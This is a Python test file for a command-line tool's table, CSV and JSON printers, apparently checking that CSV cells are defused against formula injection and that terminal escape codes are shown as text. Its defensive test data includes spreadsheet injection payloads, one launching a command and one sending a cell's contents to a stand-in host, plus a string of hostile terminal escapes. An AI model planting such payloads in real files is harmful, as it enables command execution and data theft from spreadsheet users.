"""Tables and CSV: aligned, cut to the width, and without control characters or formulas in a cell."""

import contextlib
import csv
import io
import json
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from streamgauge.cli.tables import MAX_WIDTH, JsonPrinter, print_csv, print_json, print_records, print_table
from streamgauge.core.record import encode_record
from streamgauge.core.safe_values import escaped
from tests.metrics.records import make_record, make_timing, make_usage


def test_columns_are_aligned_numbers_to_the_right(capsys: pytest.CaptureFixture[str]) -> None:
    print_table(["name", "n"], [["a", 1], ["bcdef", 1000], [None, None]])
    assert capsys.readouterr().out == "name      n\na         1\nbcdef  1000\n\n"


def test_a_cell_is_cut_and_cannot_move_the_cursor(capsys: pytest.CaptureFixture[str]) -> None:
    print_table(["name"], [["x" * 100], ["\x1b[2Jred\nline"]])
    _, first, second = capsys.readouterr().out.splitlines()
    assert first == "x" * (MAX_WIDTH - 1) + "\u2026"
    assert second == "?[2Jred?line"


def test_text_is_broken_where_a_line_is_too_wide_and_numbers_are_not(capsys: pytest.CaptureFixture[str]) -> None:
    rows = [
        ["a cause with a long name", "1,234,567,890.12", "second"],
        ["tokens_again", "2.00", "claude-sonnet-4"],
        ["2026-11-01 to 2026-11-02", "1.00", "x" * 12],
    ]
    print_table(["cause", "USD", "model"], rows, None, numbers=("USD",), line_width=42)
    assert capsys.readouterr().out.splitlines() == [
        "cause                    USD  model",
        "a cause     1,234,567,890.12  second",
        "with a",
        "long name",
        "tokens_                 2.00  claude-",
        "again                         sonnet-4",
        "2026-11-01              1.00  xxxxxxxxxxxx",
        "to",
        "2026-11-02",
    ]


@given(
    st.lists(st.tuples(st.text(), st.text(alphabet="0123456789", min_size=1), st.text()), min_size=1),
    st.integers(1, 200),
)
def test_a_broken_table_has_each_number_whole_and_no_line_wider_than_it_must_be(
    rows: list[tuple[str, str, str]], width: int
) -> None:
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        print_table(["a", "n", "b"], rows, None, numbers=("n",), line_width=width)
    lines = printed.getvalue().splitlines()
    longest = max(len(number) for _, number, _ in rows)
    assert max(map(len, lines)) <= max(width, longest + 2 * 10 + 2 * 2)
    assert all(any(number in line for line in lines) for _, number, _ in rows)


def test_a_stored_record_without_timing_and_counts_has_empty_cells(capsys: pytest.CaptureFixture[str]) -> None:
    record = json.loads(encode_record(make_record()))
    del record["timing"], record["counts"]
    print_records([json.dumps(record).encode()], "csv")
    names, row = csv.reader(io.StringIO(capsys.readouterr().out))
    cells = dict(zip(names, row, strict=True))
    assert (cells["ttft_s"], cells["gap_p50_s"], cells["end_s"], cells["events"]) == ("", "", "", "")


def test_unknown_facts_of_a_record_are_empty(capsys: pytest.CaptureFixture[str]) -> None:
    known = make_record(timing=make_timing(first_token_s=0.25), usage=make_usage(11, 7))
    unknown = make_record(timing=make_timing(first_token_s=None), usage=make_usage(None, None), response_model=None)
    records = [encode_record(record) for record in (known, unknown)]
    print_records(records, "csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [row["ttft_s"] for row in rows] == ["0.25", ""]
    assert [row["input"] for row in rows] == ["11", ""]
    assert rows[1]["model"] == (json.loads(records[1])["request_model"] or "")
    print_records(records, "table")
    head, first, second = capsys.readouterr().out.splitlines()
    place = head.index("ttft_s")
    assert first[place : place + 6].strip() == "0.250"
    assert second[place : place + 6].strip() == ""


def as_csv(*cells: object) -> str:
    """What is printed for one row, without the header line."""
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        print_csv(["name"] * len(cells), [cells])
    return printed.getvalue().partition("\n")[2]


def cell_of(*cells: object) -> str:
    """The first cell as a reader that splits at commas finds it."""
    return next(csv.reader(io.StringIO(as_csv(*cells), newline="")))[0]


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+1",
        "-1+1",
        "-1",
        "@SUM(1+1)",
        "\0=1+1",
        "\ttext",
        "\rtext",
        "\ntext",
        "  =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        '"=1+1"',
        "'=1+1",
        "\uff1d1+1",
        "\uff0b1+1",
        "\uff0d1+1",
        "\u30fc1+1",
        "\uff201+1",
    ],
)
def test_a_formula_becomes_text(formula: str) -> None:
    assert cell_of(formula) == f"'{escaped(formula, keep=BREAKS)}"


@pytest.mark.parametrize("separator", [",", ";", "\t", "\n", "\r"])
def test_a_formula_does_not_begin_where_another_reader_splits_a_cell(separator: str) -> None:
    """Excel takes the separator from the locale, and then splits at a comma of ours in spite of the quotes."""
    assert cell_of(f"gpt{separator}=1+1{separator} @x") == f"gpt{separator}'=1+1{separator}' @x"


@pytest.mark.parametrize(
    "text", ["gpt-4", "a = b", "a@b", "a\rb", "a\nb", "", "2026-03-01T00:00:00Z", "caf\u00e9", "a, b; c", "1e5", "'"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert cell_of(text, "x") == text


BREAKS = "\t\n\r"
HOSTILE = "a\x1b]0;pwned\x07\x1b[2J\u202etxt\u2066b\u200e\x9b31m\u2028c\ud800"


def test_csv_shows_what_a_terminal_would_obey() -> None:
    out = io.StringIO()
    print_csv(["model"], [[HOSTILE]], out)
    assert out.getvalue().splitlines()[1] == (
        r"a\u001b]0;pwned\u0007\u001b[2J\u202etxt\u2066b\u200e\u009b31m\u2028c\ud800"
    )
    out = io.StringIO()
    print_csv(["model"], [["two\nlines\tand a tab; 日本語 é 🙂"]], out)
    assert out.getvalue() == 'model\n"two\nlines\tand a tab; 日本語 é 🙂"\n'


def test_numbers_stay_numbers() -> None:
    assert as_csv(-1, -0.5, 3, None, True) == "-1,-0.5,3,,True\n"


DROPPED = ' \t\r\n\0\u00a0\ufeff"'
SIGNS = "=+-@\uff1d\uff0b\uff0d\u30fc\uff20"


@given(
    cell=st.text(alphabet=f"{SIGNS}{DROPPED}',;ab", max_size=12),
    beside=st.text(alphabet=f'{SIGNS};"x', max_size=4),
    separator=st.sampled_from(",;\t"),
)
def test_no_reader_finds_a_cell_that_begins_a_formula(cell: str, beside: str, separator: str) -> None:
    rows = csv.reader(io.StringIO(as_csv(cell, beside).replace("\0", " "), newline=""), delimiter=separator)
    for found in (found for row in rows for found in row):
        assert not found.lstrip(DROPPED).startswith(tuple(SIGNS)), found


def test_tables_keep_text_that_csv_changes(capsys: pytest.CaptureFixture[str]) -> None:
    print_table(["name"], [["=1+1"]])
    assert capsys.readouterr().out == "name\n=1+1\n"


def test_the_time_for_a_long_cell_is_linear(capsys: pytest.CaptureFixture[str]) -> None:
    """Quadratic time would be hours here."""
    print_csv(["name"], [["\t" * 500_000], ["x\t" * 50_000]])
    assert len(capsys.readouterr().out) > 500_000


@pytest.mark.parametrize(("output", "printed"), [("json", '[{"a":1},\n{"a":2}]\n'), ("jsonl", '{"a":1}\n{"a":2}\n')])
def test_json_is_a_list_or_one_document_per_line(output: str, printed: str, capsys: pytest.CaptureFixture[str]) -> None:
    print_json(['{"a":1}', '{"a":2}'], output)
    assert capsys.readouterr().out == printed


@pytest.mark.parametrize(("output", "printed"), [("json", "[]\n"), ("jsonl", ""), ("table", "")])
def test_json_of_nothing(output: str, printed: str, capsys: pytest.CaptureFixture[str]) -> None:
    JsonPrinter(output).end()
    assert capsys.readouterr().out == printed


def test_a_list_that_an_error_cuts_is_invalid_json(capsys: pytest.CaptureFixture[str]) -> None:
    def broken() -> Iterator[str]:
        yield "1"
        raise OSError

    with pytest.raises(OSError):
        print_json(broken(), "json")
    assert capsys.readouterr().out == "[1"
